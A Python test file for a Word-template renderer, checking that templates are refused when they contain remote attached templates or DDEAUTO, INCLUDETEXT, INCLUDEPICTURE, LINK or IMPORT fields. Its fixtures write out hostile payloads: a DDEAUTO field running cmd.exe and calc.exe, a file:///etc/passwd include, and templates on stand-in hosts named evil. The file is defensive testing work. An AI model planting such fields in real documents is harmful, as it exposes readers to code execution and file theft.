"""The Word template is held to the rule the workbook templates are (an acceptance probe,
helper-24): an attached template on http:// or a share (settings.xml.rels), a DDE/DDEAUTO,
INCLUDETEXT, INCLUDEPICTURE, LINK or IMPORT field (in w:instrText, also split across runs, or
w:fldSimple/@w:instr) were copied into the bulletin, which then fetched a file, reached the
network or ran a program when a leader opened it or updated its fields. Each is refused naming
the part, before anything is rendered; a field Jinja builds ({{ "DDE" ~ "AUTO" }}) is refused in
the bulletin as written, both ways it is rendered, and nothing is left behind. The shipped
template's PAGE field and a hyperlink to a web page stay."""

from __future__ import annotations

import html
import re
import zipfile
from pathlib import Path

import pytest

from kaohe_excel.write._tpl_sheet import TemplateError
from kaohe_excel.write.document import render_document, template_variables
from tests.test_doc_prepared import cache  # noqa: F401 (the fixture: a user cache of the test's own)

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "templates" / "综合绩效考核情况通报.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _edited(src: Path, dst: Path, edit) -> Path:
    with zipfile.ZipFile(src) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    edit(parts)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            z.writestr(n, b)
    return dst


def _attached(target: str, prefix: str = ""):
    def edit(parts):
        ns = f":{prefix[:-1]}" if prefix else ""
        parts["word/_rels/settings.xml.rels"] = (
            f'<{prefix}Relationships xmlns{ns}="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<{prefix}Relationship Id="rId1" Type="{R}/attachedTemplate" Target="{target}" TargetMode="External"/>'
            f'</{prefix}Relationships>').encode()
        s = parts["word/settings.xml"].decode()
        s = re.sub(r"(<w:settings\b[^>]*?)>", rf'\1 xmlns:rx="{R}"><w:attachedTemplate rx:id="rId1"/>', s, count=1)
        parts["word/settings.xml"] = s.encode()
    return edit


def _field(*runs: str, simple: str | None = None):
    """A paragraph with a complex field whose code is `runs` (one w:instrText each), or a
    w:fldSimple with `simple` as its instr, put before the body's first paragraph."""
    if simple is not None:
        fld = f'<w:p><w:fldSimple w:instr="{html.escape(simple)}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    else:
        code = "".join(f'<w:r><w:instrText xml:space="preserve">{html.escape(r, quote=False)}</w:instrText></w:r>'
                       for r in runs)
        fld = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/>'
               '</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')

    def edit(parts):
        s = parts["word/document.xml"].decode()
        m = re.search(r"<w:body>", s)
        parts["word/document.xml"] = (s[: m.end()] + fld + s[m.end():]).encode()
    return edit


REFUSED = {
    "attached-http": (_attached("http://127.0.0.1:9/evil.dotm"), "word/_rels/settings.xml.rels"),
    "attached-unc": (_attached("\\\\evil\\share\\evil.dotm"), "word/_rels/settings.xml.rels"),
    "attached-prefixed": (_attached("file:///c:/evil.dotm", prefix="pr:"), "word/_rels/settings.xml.rels"),
    "ddeauto": (_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), "word/document.xml"),
    "dde-split": (_field(" DD", "E cmd ", '"/c calc" A1'), "word/document.xml"),
    "includetext": (_field('INCLUDETEXT "file:///etc/passwd"'), "word/document.xml"),
    "includepicture": (_field('INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d'), "word/document.xml"),
    "link": (_field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\s\\\\a.xlsx" "S!R1C1" \\a'), "word/document.xml"),
    "import-simple": (_field(simple=' IMPORT "http://127.0.0.1:9/x.wmf" '), "word/document.xml"),
    "name-from-field": (_field("", "", ' "file:///etc/passwd"'), None),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_word_template_that_reaches_out_is_refused_naming_the_part(tmp_path, case):
    edit, part = REFUSED[case]
    tpl = _edited(SHIPPED, tmp_path / SHIPPED.name, edit)
    if case == "name-from-field":  # { { QUOTE "INCLUDETEXT" } "file:///…" }: the name is worked out by a field
        s = zipfile.ZipFile(tpl).read("word/document.xml").decode()
        inner = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "INCLUDETEXT"</w:instrText>'
                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
        s = s.replace('<w:r><w:instrText xml:space="preserve"></w:instrText></w:r>', inner, 1)
        _edited(SHIPPED, tpl, lambda p: p.__setitem__("word/document.xml", s.encode()))
        part = "word/document.xml"
    out = tmp_path / "out.docx"
    with pytest.raises(TemplateError) as e:
        render_document(tpl, {}, out)
    msg = str(e.value)
    assert SHIPPED.name in msg and f"「{part}」" in msg and "不能带着它发出" in msg, msg
    assert not out.exists()
    with pytest.raises(TemplateError):  # `kaohe template check` says it too
        template_variables(tpl)




def _plain(path: Path) -> Path:
    from docx import Document

    doc = Document()
    doc.add_paragraph("{{ title }}")
    doc.save(str(path))
    return path


def test_a_field_jinja_builds_is_refused_in_the_bulletin_both_ways(cache, tmp_path):
    tpl = _edited(_plain(tmp_path / "plain.docx"), tmp_path / "t.docx",
                  _field('{{ "DDE" ~ "AUTO" }} c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))
    template_variables(tpl)  # the template as it is holds no such field
    for out in ("docxtpl.docx", "prepared.docx"):  # the second render: from the sources the first kept
        with pytest.raises(TemplateError) as e:
            render_document(tpl, {"title": "通报"}, tmp_path / out)
        msg = str(e.value)
        assert "按模板写出的报告" in msg and "DDEAUTO" in msg and "word/document.xml" in msg, msg
        assert not (tmp_path / out).exists()
    assert list(cache.rglob("*.bin")), "the second render was not the prepared way"


def test_a_page_field_and_a_web_link_stay(cache, tmp_path):
    def web_link(parts):
        _field(" PAGE ")(parts)
        rels = parts["word/_rels/document.xml.rels"].decode()
        parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", (
            f'<Relationship Id="rIdW" Type="{R}/hyperlink" Target="https://www.example.gov.cn/" '
            'TargetMode="External"/></Relationships>')).encode()

    tpl = _edited(_plain(tmp_path / "plain.docx"), tmp_path / "t.docx", web_link)
    render_document(tpl, {"title": "通报"}, tmp_path / "a.docx")
    render_document(tpl, {"title": "通报"}, tmp_path / "b.docx")
    assert (tmp_path / "a.docx").exists() and (tmp_path / "b.docx").exists()
    assert "通报" in zipfile.ZipFile(tmp_path / "b.docx").read("word/document.xml").decode()
